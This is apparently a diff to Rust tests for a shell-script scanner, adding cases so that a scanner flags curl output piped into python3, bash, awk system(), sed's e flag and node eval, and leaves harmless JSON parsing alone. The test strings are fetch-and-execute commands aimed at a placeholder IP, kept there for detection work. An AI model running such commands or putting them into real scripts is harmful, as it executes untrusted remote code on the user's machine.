@@ -374,6 +374,16 @@ fn scripts_that_run_what_they_fetch_or_hide_are_found() {
     let fetched = "#!/bin/sh\ncurl -s http://192.0.2.9/x | sh\n";
     assert_eq!(script(fetched), found(Verdict::Suspicious));
     assert_eq!(script("echo aWQ= | base64 -d | sh\n"), found(Verdict::Malicious));
+    for text in [
+        "curl -s http://192.0.2.9/x | python3 - --quiet\n",
+        "curl -s http://192.0.2.9/x | bash -s -- --yes\n",
+        "curl -s http://192.0.2.9/x | python3 -c 'import sys; exec(sys.stdin.read())'\n",
+        "curl -s http://192.0.2.9/x | awk '{ system($0) }'\n",
+        "curl -s http://192.0.2.9/x | sed 's/.*/id/e'\n",
+        "curl -s http://192.0.2.9/x | node -e 'eval(require(\"fs\").readFileSync(0, \"utf8\"))'\n",
+    ] {
+        assert_eq!(script(text), found(Verdict::Suspicious), "{text}");
+    }
     assert_eq!(
         script("bash -c \"$(curl -fsSL http://192.0.2.9/x)\"\n"),
         found(Verdict::Suspicious)
@@ -386,6 +396,8 @@ fn scripts_that_download_and_convert_are_ordinary() {
         "set -e\ncurl -LO https://models.example/w.bin\npython convert.py --input w.bin\n",
         "pip install -r requirements.txt\n",
         "for f in *.bin; do gzip -d \"$f\"; done\n",
+        "curl -s https://models.example/v1 | python3 -c \"import sys, json; print(json.load(sys.stdin)['id'])\"\n",
+        "curl -s https://models.example/list | awk '{ print $1 }' | sed 's/a/b/g'\n",
     ] {
         assert_eq!(script(text).0, [""; 0], "{text}");
     }
